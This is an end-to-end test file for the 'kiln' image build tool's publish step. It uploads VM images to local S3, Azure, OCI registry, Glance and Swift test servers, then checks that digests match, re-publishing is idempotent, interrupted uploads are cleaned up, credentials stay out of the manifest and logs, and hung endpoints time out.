// kiln build with a publish: list to four real servers on loopback (s3rver, Azurite, Debian's
// docker-registry and Glance without Keystone), started in parallel once for this file: every image
// is read back through the server's API and compared by digest (the build boots UEFI: its variable
// store goes to S3 beside the disk); `kiln publish` again sends nothing;
// an upload interrupted half way leaves nothing on the remote side; wrong credentials give one line.
import { createHash, randomBytes } from 'node:crypto';
import { createReadStream, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { execa } from 'execa';
import tar from 'tar-stream';
import {
  CreateBucketCommand,
  GetObjectCommand,
  ListMultipartUploadsCommand,
  ListObjectsV2Command,
  S3Client,
} from '@aws-sdk/client-s3';
import {
  AccountSASPermissions,
  AccountSASResourceTypes,
  AccountSASServices,
  BlobServiceClient,
  SASProtocol,
  StorageSharedKeyCredential,
  generateAccountSASQueryParameters,
} from '@azure/storage-blob';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tinySourceYaml } from '../helpers/guest.js';
import { kiln, spawnKiln } from '../helpers/kiln.js';
import {
  startAzurite,
  startGlance,
  startRegistry,
  startS3,
  startSwift,
  type RunningServer,
} from '../helpers/servers/index.js';
import type { Manifest } from '../../src/artifacts/manifest.js';
import { PublishFailed, publishManifest } from '../../src/publish/runner.js';
import { layerSize } from '../../src/publish/oci.js';
import type { PublishTarget } from '../../src/template/schema-publish.js';
import { publishTargetSchema } from '../../src/template/schema-publish.js';

const dir = mkdtempSync(path.join(os.tmpdir(), 'kiln-e2e-publish-'));
let s3: Awaited<ReturnType<typeof startS3>>;
let azure: Awaited<ReturnType<typeof startAzurite>>;
let registry: Awaited<ReturnType<typeof startRegistry>>;
let glance: RunningServer;
let authRegistry: Awaited<ReturnType<typeof startRegistry>>;
let swift: Awaited<ReturnType<typeof startSwift>>;
const registryLogin = { user: 'kiln', password: 'pw-registry-e2e' };
let env: Record<string, string>;
const out = path.join(dir, 'out', 'pub');
const manifestFile = path.join(out, 'manifest.json');
let built: Awaited<ReturnType<typeof kiln>>;
const templateFile = path.join(dir, 'pub.yaml');
let templateText: string;
type PublishedEvent = {
  type: 'published';
  build: string;
  target: string;
  ok: boolean;
  unchanged?: boolean;
  bytesSent?: number;
  location?: string;
  remoteDigest?: string;
  error?: string;
};
const publishedEvents = (r: Awaited<ReturnType<typeof kiln>>) =>
  r.events.filter((e) => e.type === 'published') as PublishedEvent[];

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
async function fileSha256(file: string): Promise<string> {
  const h = createHash('sha256');
  for await (const c of createReadStream(file)) h.update(c as Buffer);
  return h.digest('hex');
}
async function bytesOf(stream: AsyncIterable<unknown>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of stream) parts.push(Buffer.from(c as Uint8Array));
  return Buffer.concat(parts);
}
const s3Client = () =>
  new S3Client({
    endpoint: s3.url,
    region: 'us-east-1',
    forcePathStyle: true,
    credentials: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey },
  });

beforeAll(async () => {
  [s3, azure, registry, glance, authRegistry, swift] = await Promise.all([
    startS3(),
    startAzurite(),
    startRegistry(),
    startGlance(),
    startRegistry(registryLogin),
    startSwift(),
  ]);
  // One layer cache for the file's builds, so a second build of the same template is up to date.
  env = {
    AWS_ACCESS_KEY_ID: s3.accessKeyId,
    AWS_SECRET_ACCESS_KEY: s3.secretAccessKey,
    AZURE_STORAGE_CONNECTION_STRING: azure.connectionString,
    KILN_CACHE_DIR: path.join(dir, 'cache'),
  };
  templateText = `
builds:
  - name: pub
    output_directory: ${out}
${tinySourceYaml('    ', { bootloader: true })}
      firmware: uefi
    provisioners:
      - type: shell
        inline: ['echo published > /root/marker']
    outputs:
      - format: qcow2
      - format: vhd
    publish:
      - type: s3
        bucket: images
        key: tiny/pub.qcow2
        endpoint: ${s3.url}
        force_path_style: true
        part_size: 5M
      - type: azure
        container: vhds
      - type: oci
        registry: ${registry.host}
        repository: kiln/tiny
        tags: [latest, v1]
        insecure: true
        chunk_size: 5M
      - type: glance
        endpoint: ${glance.url}
        image_name: kiln-tiny
        os_distro: debian
        properties: { hw_disk_bus: virtio }
`;
  writeFileSync(templateFile, templateText);
  built = await kiln(['build', '--events', 'json', templateFile], env);
}, 300_000);
afterAll(async () => {
  await Promise.all([s3, azure, registry, glance, authRegistry, swift].filter(Boolean).map((s) => s.stop()));
  rmSync(dir, { recursive: true, force: true });
});

const manifest = () => JSON.parse(readFileSync(manifestFile, 'utf8')) as Manifest;
const artifact = (format: string) => manifest().artifacts.find((a) => a.format === format)!;
const record = (name: string) => manifest().published!.find((r) => r.target === name)!;

describe('publish to four local servers', () => {
  it('the build publishes to each target and records where the image lives, no secret in the manifest', () => {
    expect(built.exitCode, built.stderr).toBe(0);
    const m = manifest();
    expect(m.published!.map((r) => [r.target, r.status])).toEqual([
      ['s3', 'published'],
      ['azure', 'published'],
      ['oci', 'published'],
      ['glance', 'published'],
    ]);
    expect(record('s3').location).toBe('s3://images/tiny/pub.qcow2');
    expect(record('oci').id).toMatch(/^sha256:[0-9a-f]{64}$/);
    const text = readFileSync(manifestFile, 'utf8');
    expect(text).not.toContain(s3.secretAccessKey === s3.accessKeyId ? 'AccountKey' : s3.secretAccessKey);
    expect(text).not.toContain('AccountKey');
    expect(built.stdout + built.stderr).not.toContain('AccountKey=');
  }, 120_000);

  it("S3: the object read back has the artifact's sha256", async () => {
    const client = s3Client();
    const got = await client.send(new GetObjectCommand({ Bucket: 'images', Key: 'tiny/pub.qcow2' }));
    expect(sha256(await bytesOf(got.Body as Readable))).toBe(artifact('qcow2').sha256);
    client.destroy();
  }, 120_000);

  it('Azure: the page blob read back is the fixed VHD, and far less than its size was sent', async () => {
    const blob = BlobServiceClient.fromConnectionString(azure.connectionString)
      .getContainerClient('vhds')
      .getPageBlobClient(artifact('vhd').name);
    const size = artifact('vhd').size;
    const buf = await blob.downloadToBuffer();
    expect(sha256(buf)).toBe(artifact('vhd').sha256);
    const footer = buf.subarray(size - 512);
    expect((await blob.getProperties()).contentLength).toBe(size);
    expect(footer.subarray(0, 8).toString()).toBe('conectix');
    expect(record('azure').bytes_sent!).toBeLessThan(size / 2);
  }, 120_000);

  it('OCI: skopeo pulls a containerDisk whose /disk/ holds the qcow2', async () => {
    // dir: keeps every blob and the manifest as the registry served them (oci: would recompress the layer).
    const layout = path.join(dir, 'pulled');
    await execa('skopeo', [
      'copy',
      '--src-tls-verify=false',
      `docker://${registry.host}/kiln/tiny:v1`,
      `dir:${layout}`,
    ]);
    const raw = readFileSync(path.join(layout, 'manifest.json'));
    expect(`sha256:${sha256(raw)}`).toBe(record('oci').id);
    const m = JSON.parse(raw.toString()) as { layers: { digest: string; mediaType: string }[] };
    expect(m.layers).toHaveLength(1);
    expect(m.layers[0]!.mediaType).toBe('application/vnd.oci.image.layer.v1.tar');
    const extract = tar.extract();
    const files: Record<string, { sha: string; uid: number }> = {};
    extract.on('entry', (h, stream, next) => {
      const hash = createHash('sha256');
      stream.on('data', (d: unknown) => {
        hash.update(d as Buffer);
      });
      stream.on('end', () => {
        files[h.name] = { sha: hash.digest('hex'), uid: h.uid ?? -1 };
        next();
      });
    });
    const done = new Promise<void>((r, j) => {
      extract.on('finish', () => r());
      extract.on('error', j);
    });
    createReadStream(path.join(layout, m.layers[0]!.digest.slice(7))).pipe(extract);
    await done;
    expect(files[`disk/${artifact('qcow2').name}`]).toEqual({ sha: artifact('qcow2').sha256, uid: 107 });
  }, 120_000);

  it('Glance: the image is active, with the properties, and its data read back matches', async () => {
    const image = (await (await fetch(`${glance.url}/v2/images/${record('glance').id}`)).json()) as Record<
      string,
      unknown
    >;
    expect(image).toMatchObject({
      status: 'active',
      name: 'kiln-tiny',
      disk_format: 'qcow2',
      os_distro: 'debian',
      hw_disk_bus: 'virtio',
      hw_firmware_type: 'uefi',
      kiln_sha256: artifact('qcow2').sha256,
    });
    const data = Buffer.from(await (await fetch(`${glance.url}/v2/images/${record('glance').id}/file`)).arrayBuffer());
    expect(sha256(data)).toBe(artifact('qcow2').sha256);
    expect(record('glance').remote_digest).toBe(`sha512:${createHash('sha512').update(data).digest('hex')}`);
  }, 120_000);

  it("kiln publish of the same manifest again sends nothing; --events=json gives the build's published events and an end", async () => {
    // The S3 endpoint comes from the manifest: confirmed; Azure's comes from the connection string.
    const r = await kiln(['publish', '--events=json', '--allow-host', new URL(s3.url).host, manifestFile], env);
    expect(r.exitCode, r.stderr).toBe(0);
    // The same events `kiln build --events=json` emits for its publish step, one per target, then the outcome.
    expect(publishedEvents(r).map((e) => [e.build, e.target, e.ok, e.unchanged, e.bytesSent])).toEqual(
      ['s3', 'azure', 'oci', 'glance'].map((t) => ['pub', t, true, true, 0]),
    );
    expect(r.events.at(-1)).toMatchObject({ type: 'publish-end', build: 'pub', ok: true });
    expect(
      r.events.some(
        (e) =>
          e.type === 'log' && String(e.message).startsWith('publish s3: sending credentials from AWS_ACCESS_KEY_ID'),
      ),
    ).toBe(true);
    expect(
      r.stdout
        .split('\n')
        .filter(Boolean)
        .every((l) => l.startsWith('{"type"')),
    ).toBe(true);
    expect(r.stdout).not.toMatch(/S3RVER|AccountKey|Eby8vdM0/);
    // The human lines stay on stderr, as without --events.
    expect(r.stderr).toMatch(/^publish s3: already there s3:\/\/images\/\S+ \(\w+\) in \d+ ms$/m);
    expect(r.stderr).toContain(
      `publish s3: sending credentials from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY to S3 at ${new URL(s3.url).host}`,
    );
    expect(r.stderr).toMatch(
      /publish azure: sending credentials from AZURE_STORAGE_CONNECTION_STRING to the Azure blob service at 127\.0\.0\.1:\d+/,
    );
    // Loopback is not a network: no plain-http warning.
    expect(r.stderr).not.toContain('warning:');
    for (const p of manifest().published!)
      expect([p.target, p.status, p.unchanged, p.bytes_sent]).toEqual([p.target, 'published', true, 0]);
    const images = (await (await fetch(`${glance.url}/v2/images?name=kiln-tiny`)).json()) as { images: unknown[] };
    expect(images.images).toHaveLength(1);
  }, 120_000);

  it('a rebuild is up to date and only publishes: a no-op per target, and a target added to the list gets the image', async () => {
    // No change at all: no guest boots, each target already holds the same digest and sends nothing.
    const same = await kiln(['build', '--events', 'json', templateFile], env);
    expect(same.exitCode, same.stderr).toBe(0);
    expect(same.events.some((e) => e.type === 'log' && String(e.message).startsWith('up to date'))).toBe(true);
    expect(same.events.some((e) => e.type === 'step-start' && e.step === 'publish')).toBe(true);
    expect(publishedEvents(same).map((e) => [e.target, e.ok, e.unchanged, e.bytesSent])).toEqual(
      ['s3', 'azure', 'oci', 'glance'].map((t) => [t, true, true, 0]),
    );
    // Only the publish list changed: still up to date (publish is not part of the artifact key), and
    // the new target receives the artifact while the others stay no-ops.
    writeFileSync(
      templateFile,
      templateText.replace(
        '    publish:\n',
        `    publish:\n      - type: s3\n        name: s3-copy\n        bucket: images\n        key: tiny/copy.qcow2\n        endpoint: ${s3.url}\n        force_path_style: true\n` +
          `      - type: s3\n        name: vars\n        format: efi-vars\n        bucket: images\n        endpoint: ${s3.url}\n        force_path_style: true\n`,
      ),
    );
    const added = await kiln(['build', '--events', 'json', templateFile], env);
    expect(added.exitCode, added.stderr).toBe(0);
    expect(added.events.some((e) => e.type === 'log' && String(e.message).startsWith('up to date'))).toBe(true);
    const events = publishedEvents(added);
    expect(events.map((e) => [e.target, e.ok, e.unchanged])).toEqual([
      ['s3-copy', true, false],
      ['vars', true, false],
      ...['s3', 'azure', 'oci', 'glance'].map((t) => [t, true, true]),
    ]);
    expect(events[0]!.bytesSent).toBe(artifact('qcow2').size);
    expect(events[0]!.location).toBe('s3://images/tiny/copy.qcow2');
    expect(record('s3-copy')).toMatchObject({ status: 'published', unchanged: false });
    // The UEFI build's variable store goes beside its disk, under its own file name by default.
    const vars = artifact('efi-vars');
    expect(vars.name).toBe('pub.efivars.fd');
    expect(events[1]!.bytesSent).toBe(vars.size);
    expect(events[1]!.location).toBe('s3://images/pub.efivars.fd');
    const client = s3Client();
    const got = await client.send(new GetObjectCommand({ Bucket: 'images', Key: 'tiny/copy.qcow2' }));
    expect(sha256(await bytesOf(got.Body as Readable))).toBe(artifact('qcow2').sha256);
    const store = await client.send(new GetObjectCommand({ Bucket: 'images', Key: 'pub.efivars.fd' }));
    expect(sha256(await bytesOf(store.Body as Readable))).toBe(vars.sha256);
    client.destroy();
    // Events and output carry no credential.
    for (const r of [same, added]) {
      expect(r.stdout + r.stderr).not.toContain('AccountKey=');
      expect(JSON.stringify(publishedEvents(r))).not.toMatch(/S3RVER|AccountKey|Eby8vdM0/);
    }
  }, 180_000);

  it('wrong credentials give one clear line naming the target and the variable', async () => {
    const r = await kiln(['publish', manifestFile, '--only', 'azure'], {
      ...env,
      AZURE_STORAGE_CONNECTION_STRING: azure.connectionString.replace(
        /AccountKey=[^;]+/,
        `AccountKey=${Buffer.from('wrong').toString('base64')}`,
      ),
    });
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toMatch(
      /^error: publish target "azure": the storage account refused the key from AZURE_STORAGE_CONNECTION_STRING \(\w+\)$/m,
    );
    expect(r.stderr).not.toContain('AccountKey');
    const s = await kiln(['publish', manifestFile, '--only', 's3', '--events=json'], {
      ...env,
      AWS_SECRET_ACCESS_KEY: undefined as never,
    });
    expect(s.exitCode).toBe(1);
    expect(s.stderr).toMatch(/^error: publish target "s3": AWS_SECRET_ACCESS_KEY is not set$/m);
    expect(publishedEvents(s).map((e) => [e.target, e.ok, e.error])).toEqual([
      ['s3', false, expect.stringContaining('AWS_SECRET_ACCESS_KEY is not set')],
    ]);
    expect(s.events.at(-1)).toMatchObject({
      type: 'publish-end',
      ok: false,
      error: expect.stringContaining('publish target "s3": AWS_SECRET_ACCESS_KEY is not set'),
    });
    expect(record('s3').status).toBe('failed');
  }, 120_000);

  it('OCI with htpasswd auth: wrong credentials give one line naming the variables; right ones push in one pass, and again is a no-op', async () => {
    const copy = path.join(dir, 'auth-manifest.json');
    const m = manifest();
    delete m.published;
    writeFileSync(copy, JSON.stringify(m));
    const t = publishTargetSchema.parse({
      type: 'oci',
      registry: authRegistry.host,
      repository: 'kiln/auth',
      tags: ['v1'],
      insecure: true,
      chunk_size: '5M',
    });
    const run = (password: string) =>
      publishManifest(copy, [t], {
        signal: new AbortController().signal,
        progress: 'none',
        log: () => undefined,
        env: { ...process.env, KILN_REGISTRY_USERNAME: registryLogin.user, KILN_REGISTRY_PASSWORD: password },
      });
    const wrong = await run('not-the-password').then(
      () => undefined,
      (e: Error) => e.message,
    );
    expect(wrong!.split('\n')[0]).toBe(
      'publish target "oci": the registry refused the credentials from KILN_REGISTRY_USERNAME / KILN_REGISTRY_PASSWORD (HTTP 401)',
    );
    expect(wrong).not.toContain('not-the-password');
    const [pushed] = await run(registryLogin.password);
    // The layer went up once, hashed on the way: exactly the layer's bytes were sent.
    expect(pushed).toMatchObject({ status: 'published', unchanged: false, bytes_sent: layerSize(artifact('qcow2')) });
    const basic = `Basic ${Buffer.from(`${registryLogin.user}:${registryLogin.password}`).toString('base64')}`;
    const res = await fetch(`${authRegistry.url}/v2/kiln/auth/manifests/v1`, {
      headers: { authorization: basic, accept: 'application/vnd.oci.image.manifest.v1+json' },
    });
    const raw = Buffer.from(await res.arrayBuffer());
    expect(`sha256:${sha256(raw)}`).toBe(pushed!.id);
    const layer = (JSON.parse(raw.toString()) as { layers: { digest: string; size: number }[] }).layers[0]!;
    const blob = await fetch(`${authRegistry.url}/v2/kiln/auth/blobs/${layer.digest}`, {
      method: 'HEAD',
      headers: { authorization: basic },
    });
    expect([blob.status, Number(blob.headers.get('content-length'))]).toEqual([200, layer.size]);
    // The layer is the same one the anonymous registry got (and skopeo read back above).
    expect(pushed!.id).toBe(record('oci').id);
    const [again] = await run(registryLogin.password);
    expect(again).toMatchObject({ status: 'published', unchanged: true, bytes_sent: 0, id: pushed!.id });
  }, 180_000);

  it('S3 on Swift s3api: an interrupted multipart upload is aborted (no parts left), a complete one reads back', async () => {
    const client = new S3Client({
      endpoint: swift.url,
      region: 'us-east-1',
      forcePathStyle: true,
      credentials: { accessKeyId: swift.accessKeyId, secretAccessKey: swift.secretAccessKey },
    });
    await client.send(new CreateBucketCommand({ Bucket: 'images' }));
    const copy = path.join(dir, 'swift-manifest.json');
    const m = manifest();
    delete m.published;
    writeFileSync(copy, JSON.stringify(m));
    const t = publishTargetSchema.parse({
      type: 's3',
      name: 'swift',
      bucket: 'images',
      key: 'tiny/swift.qcow2',
      endpoint: swift.url,
      force_path_style: true,
      part_size: '5M',
      concurrency: 1,
    });
    const swiftEnv = {
      ...process.env,
      AWS_ACCESS_KEY_ID: swift.accessKeyId,
      AWS_SECRET_ACCESS_KEY: swift.secretAccessKey,
    };
    const controller = new AbortController();
    let sawProgress = false;
    const interrupted = publishManifest(copy, [t], {
      signal: controller.signal,
      env: swiftEnv,
      progress: 'lines',
      log: (line) => {
        if (/: 25%/.test(line) && !controller.signal.aborted) {
          sawProgress = true;
          controller.abort(new Error('interrupted by the test'));
        }
      },
    });
    await expect(interrupted).rejects.toThrow();
    expect(sawProgress).toBe(true);
    // Swift lists multipart uploads in progress (s3rver cannot): the aborted one is gone, parts and all.
    const uploads = await client.send(new ListMultipartUploadsCommand({ Bucket: 'images' }));
    expect(uploads.Uploads ?? []).toEqual([]);
    expect((await client.send(new ListObjectsV2Command({ Bucket: 'images' }))).Contents ?? []).toEqual([]);
    const [done] = await publishManifest(copy, [t], {
      signal: new AbortController().signal,
      env: swiftEnv,
      progress: 'none',
      log: () => undefined,
    });
    expect(done).toMatchObject({ status: 'published', unchanged: false, bytes_sent: artifact('qcow2').size });
    const got = await client.send(new GetObjectCommand({ Bucket: 'images', Key: 'tiny/swift.qcow2' }));
    expect(sha256(await bytesOf(got.Body as Readable))).toBe(artifact('qcow2').sha256);
    client.destroy();
  }, 180_000);

  it('an upload interrupted half way leaves nothing on any server', async () => {
    // A copy of the manifest whose targets name new objects, so nothing is already there.
    const copy = path.join(dir, 'interrupted-manifest.json');
    const m = manifest();
    delete m.published;
    writeFileSync(copy, JSON.stringify(m));
    const targets: PublishTarget[] = [
      {
        type: 's3',
        bucket: 'images',
        key: 'interrupted.qcow2',
        endpoint: s3.url,
        force_path_style: true,
        part_size: '5M',
        concurrency: 1,
      },
      { type: 'azure', container: 'vhds', blob: 'interrupted.vhd' },
      {
        type: 'oci',
        registry: registry.host,
        repository: 'kiln/interrupted',
        tags: ['latest'],
        insecure: true,
        chunk_size: '5M',
      },
      { type: 'glance', endpoint: glance.url, image_name: 'kiln-interrupted' },
    ].map((t) => publishTargetSchema.parse(t));
    for (const t of targets) {
      const controller = new AbortController();
      let sawProgress = false;
      const run = publishManifest(copy, [t], {
        signal: controller.signal,
        env: { ...process.env, ...env },
        progress: 'lines',
        log: (line) => {
          if (/: 25%/.test(line) && !controller.signal.aborted) {
            sawProgress = true;
            controller.abort(new Error('interrupted by the test'));
          }
        },
      });
      await expect(run, t.type).rejects.toThrow();
      expect(sawProgress, t.type).toBe(true);
    }
    const client = s3Client();
    const listed = await client.send(new ListObjectsV2Command({ Bucket: 'images' }));
    expect((listed.Contents ?? []).map((o) => o.Key).sort()).toEqual([
      'pub.efivars.fd',
      'tiny/copy.qcow2',
      'tiny/pub.qcow2',
    ]);
    client.destroy();
    const blobs: string[] = [];
    for await (const b of BlobServiceClient.fromConnectionString(azure.connectionString)
      .getContainerClient('vhds')
      .listBlobsFlat())
      blobs.push(b.name);
    expect(blobs).toEqual([artifact('vhd').name]);
    const tags = await fetch(`${registry.url}/v2/kiln/interrupted/tags/list`);
    expect(tags.status).toBe(404);
    const images = (await (await fetch(`${glance.url}/v2/images`)).json()) as { images: { name: string }[] };
    expect(images.images.map((i) => i.name)).toEqual(['kiln-tiny']);
    expect(readdirSync(path.join(glance.dir, 'images'))).toHaveLength(1);
  }, 180_000);
});

/**
 * A copy of the build's manifest in its own folder, recording `targets` for kiln publish; its
 * artifacts are the build's (by absolute path) or, with `artifacts`, small files made for the test
 * (fast to send, so the file's runtime stays reasonable).
 */
function manifestCopy(name: string, targets: Record<string, unknown>[], artifacts?: Manifest['artifacts']): string {
  const folder = path.join(dir, name);
  mkdirSync(folder, { recursive: true });
  const m = manifest();
  m.artifacts = artifacts ?? m.artifacts.map((a) => ({ ...a, path: path.resolve(out, a.path) }));
  m.published = targets.map((t) => {
    const parsed = publishTargetSchema.parse(t);
    const target = (t.name as string | undefined) ?? (t.type as string);
    return { target, type: parsed.type, format: parsed.format, status: 'pending' as const, config: t };
  });
  delete m.cache;
  const file = path.join(folder, 'manifest.json');
  writeFileSync(file, JSON.stringify(m, null, 2));
  return file;
}

/** A small artifact of random bytes (a whole number of 512-byte sectors, as a fixed VHD needs). */
function smallArtifact(name: string, format: string, size: number): Manifest['artifacts'][number] {
  const folder = path.join(dir, 'small-artifacts');
  mkdirSync(folder, { recursive: true });
  const data = randomBytes(size);
  const file = path.join(folder, name);
  writeFileSync(file, data);
  return {
    ...manifest().artifacts[0]!,
    name,
    path: file,
    format,
    size,
    sha256: sha256(data),
    compression: undefined,
  } as Manifest['artifacts'][number];
}

const recordIn = (file: string, target: string) =>
  (JSON.parse(readFileSync(file, 'utf8')) as Manifest).published!.find((r) => r.target === target)!;

/** A real TCP server on loopback that accepts connections and never answers (a hung endpoint). */
async function hungServer(): Promise<{
  port: number;
  accepted: () => number;
  sawRequest: Promise<void>;
  close(): Promise<void>;
}> {
  const sockets: net.Socket[] = [];
  let seen!: () => void;
  const sawRequest = new Promise<void>((r) => {
    seen = r;
  });
  const server = net.createServer((s) => {
    sockets.push(s);
    s.once('data', () => seen());
    s.on('error', () => undefined);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as net.AddressInfo).port,
    accepted: () => sockets.length,
    sawRequest,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

describe('publish: secrets, integrity, hangs and messages (issue 23)', () => {
  it('Azure with a SAS connection string: the SAS token is in neither manifest.json, the log nor the location', async () => {
    const key = /AccountKey=([^;]+)/.exec(azure.connectionString)![1]!;
    const sas = generateAccountSASQueryParameters(
      {
        expiresOn: new Date(Date.now() + 3_600_000),
        permissions: AccountSASPermissions.parse('rwdlac'),
        resourceTypes: AccountSASResourceTypes.parse('sco').toString(),
        services: AccountSASServices.parse('b').toString(),
        protocol: SASProtocol.HttpsAndHttp,
      },
      new StorageSharedKeyCredential('devstoreaccount1', key),
    ).toString();
    expect(sas).toMatch(/sig=/);
    const vhd = smallArtifact('sas.vhd', 'vhd', 2 ** 20 + 512);
    const file = manifestCopy('sas', [{ type: 'azure', name: 'sas', container: 'sas', blob: 'tiny.vhd' }], [vhd]);
    const r = await kiln(['publish', file], {
      ...env,
      AZURE_STORAGE_CONNECTION_STRING: `BlobEndpoint=${azure.url};SharedAccessSignature=${sas}`,
    });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(recordIn(file, 'sas')).toMatchObject({ status: 'published', location: `${azure.url}/sas/tiny.vhd` });
    const signature = new URLSearchParams(sas).get('sig')!;
    for (const text of [readFileSync(file, 'utf8'), r.stderr, r.stdout]) {
      expect(text).not.toMatch(/sig=|sv=|se=/);
      expect(text).not.toContain(signature);
      expect(text).not.toContain(encodeURIComponent(signature));
    }
    // It was really sent with the SAS: read back with the account key.
    const blob = BlobServiceClient.fromConnectionString(azure.connectionString)
      .getContainerClient('sas')
      .getPageBlobClient('tiny.vhd');
    expect(sha256(await blob.downloadToBuffer())).toBe(vhd.sha256);
  }, 120_000);

  it('a disk changed after the build: every target fails naming the file and both digests, leaves nothing, and says it again next time', async () => {
    // Small artifacts as the build recorded them, then changed on disk: one byte flipped near the end
    // (same size, another sha256). 6 MiB with 5 MiB parts: S3 sends a first part before the check fails.
    const recorded = {
      raw: smallArtifact('changed.raw', 'raw', 6 * 2 ** 20),
      vhd: smallArtifact('changed.vhd', 'vhd', 2 ** 20 + 512),
    };
    const actual: Record<string, string> = {};
    for (const [format, a] of Object.entries(recorded)) {
      const data = readFileSync(a.path);
      data[a.size - 700] = data[a.size - 700]! ^ 0xff;
      writeFileSync(a.path, data);
      actual[format] = sha256(data);
    }
    const targets = [
      {
        type: 's3',
        format: 'raw',
        bucket: 'images',
        key: 'changed.raw',
        endpoint: s3.url,
        force_path_style: true,
        part_size: '5M',
      },
      { type: 'azure', container: 'vhds', blob: 'changed.vhd' },
      {
        type: 'oci',
        format: 'raw',
        registry: registry.host,
        repository: 'kiln/changed',
        tags: ['latest'],
        insecure: true,
        chunk_size: '5M',
      },
      { type: 'glance', format: 'raw', endpoint: glance.url, image_name: 'kiln-changed' },
    ];
    const file = manifestCopy('changed', targets, [recorded.raw, recorded.vhd]);
    const run = () =>
      publishManifest(
        file,
        targets.map((t) => publishTargetSchema.parse(t)),
        {
          signal: new AbortController().signal,
          env: { ...process.env, ...env },
          progress: 'none',
          log: () => undefined,
        },
      ).then(
        () => {
          throw new Error('published a changed disk');
        },
        (e: Error) => e,
      );
    for (let round = 1; round <= 2; round++) {
      const e = await run();
      expect(e, String(e)).toBeInstanceOf(PublishFailed);
      for (const [target, format] of [
        ['s3', 'raw'],
        ['azure', 'vhd'],
        ['oci', 'raw'],
        ['glance', 'raw'],
      ] as const) {
        const a = recorded[format];
        expect(e.message, `${target} round ${round}`).toContain(
          `publish target "${target}": ${a.path} is not the artifact manifest.json describes: its sha256 is ${actual[format]}, manifest.json records ${a.sha256}`,
        );
        expect(recordIn(file, target), target).toMatchObject({ status: 'failed' });
      }
    }
    // Nothing labelled with the stale digest anywhere, so no later publish can take it for "already there".
    const client = s3Client();
    expect(
      ((await client.send(new ListObjectsV2Command({ Bucket: 'images' }))).Contents ?? []).map((o) => o.Key),
    ).not.toContain('changed.raw');
    client.destroy();
    const blobs: string[] = [];
    for await (const b of BlobServiceClient.fromConnectionString(azure.connectionString)
      .getContainerClient('vhds')
      .listBlobsFlat())
      blobs.push(b.name);
    expect(blobs).not.toContain('changed.vhd');
    expect((await fetch(`${registry.url}/v2/kiln/changed/tags/list`)).status).toBe(404);
    const images = (await (await fetch(`${glance.url}/v2/images`)).json()) as { images: { name: string }[] };
    expect(images.images.map((i) => i.name)).not.toContain('kiln-changed');
  }, 240_000);

  it('kiln publish sends credentials to a host the manifest names only when --allow-host confirms it', async () => {
    // An edited manifest: its S3 endpoint now names 127.0.0.2, where a listener counts connections.
    const accepted: net.Socket[] = [];
    const other = net.createServer((sock) => {
      accepted.push(sock);
      sock.destroy();
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.2', r));
    const otherHost = `127.0.0.2:${(other.address() as net.AddressInfo).port}`;
    try {
      const file = manifestCopy('edited', [
        { type: 's3', bucket: 'images', key: 'edited.qcow2', endpoint: `http://${otherHost}`, force_path_style: true },
      ]);
      for (const args of [[], ['--allow-host', new URL(s3.url).host]]) {
        const r = await kiln(['publish', ...args, file], env);
        expect(r.exitCode).toBe(1);
        expect(r.stderr).toContain(
          `error: publish target "s3": ${file} names S3 at ${otherHost}, and kiln publish sends AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY only to a host you confirm`,
        );
        expect(r.stderr).toContain(
          `fix: check the host is yours, then run kiln publish --allow-host ${otherHost} ${file}`,
        );
        expect(r.stderr).not.toContain('S3RVER');
      }
      expect(accepted).toHaveLength(0);
      // Confirmed, it is sent there (and fails there: that listener is no S3).
      const r = await kiln(['publish', '--allow-host', otherHost, file], env);
      expect(r.stderr).toContain(
        `sending credentials from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY to S3 at ${otherHost}`,
      );
      expect(accepted.length).toBeGreaterThan(0);
    } finally {
      await new Promise((r) => other.close(r));
    }
  }, 120_000);

  it('an endpoint that accepts and never answers: each target fails in its idle timeout naming the endpoint; SIGTERM stops a hung upload at once', async () => {
    const hung = await hungServer();
    try {
      const host = `127.0.0.1:${hung.port}`;
      const timeout = { connect: '2s', idle: '1s' };
      const file = manifestCopy('hung', [
        { type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true, timeout },
        { type: 'glance', endpoint: `http://${host}`, timeout },
        { type: 'oci', registry: host, repository: 'kiln/hung', insecure: true, timeout },
        { type: 'azure', container: 'vhds', timeout },
      ]);
      const started = Date.now();
      // Azure's endpoint comes from the connection string: no --allow-host needed for it.
      const hungAzure = azure.connectionString.replace(
        /BlobEndpoint=[^;]+/,
        `BlobEndpoint=http://${host}/devstoreaccount1`,
      );
      const r = await kiln(['publish', '--allow-host', host, file], {
        ...env,
        AZURE_STORAGE_CONNECTION_STRING: hungAzure,
      });
      const seconds = (Date.now() - started) / 1000;
      expect(r.exitCode).toBe(1);
      expect(r.stderr).toMatch(
        new RegExp(
          `error: publish target "s3": S3 at http://127\\.0\\.0\\.1:${hung.port} stopped answering: no bytes moved for 1 s \\(timeout\\.idle\\)`,
        ),
      );
      expect(r.stderr).toContain(
        `error: publish target "glance": http://${host} stopped answering: no bytes moved for 1 s (timeout.idle)`,
      );
      expect(r.stderr).toContain(
        `error: publish target "oci": http://${host} stopped answering: no bytes moved for 1 s (timeout.idle)`,
      );
      expect(r.stderr).toContain(
        `error: publish target "azure": http://${host} stopped answering: no bytes moved for 1 s (timeout.idle)`,
      );
      expect(r.stderr).not.toContain('AccountKey');
      // The S3 SDK tries 4 times; the others are not retried after a timeout. Far below undici's 300 s.
      expect(seconds).toBeLessThan(60);

      // Default timeouts (120 s idle): SIGTERM while the request hangs.
      const file2 = manifestCopy('hung-sigterm', [
        { type: 's3', bucket: 'images', endpoint: `http://${host}`, force_path_style: true },
      ]);
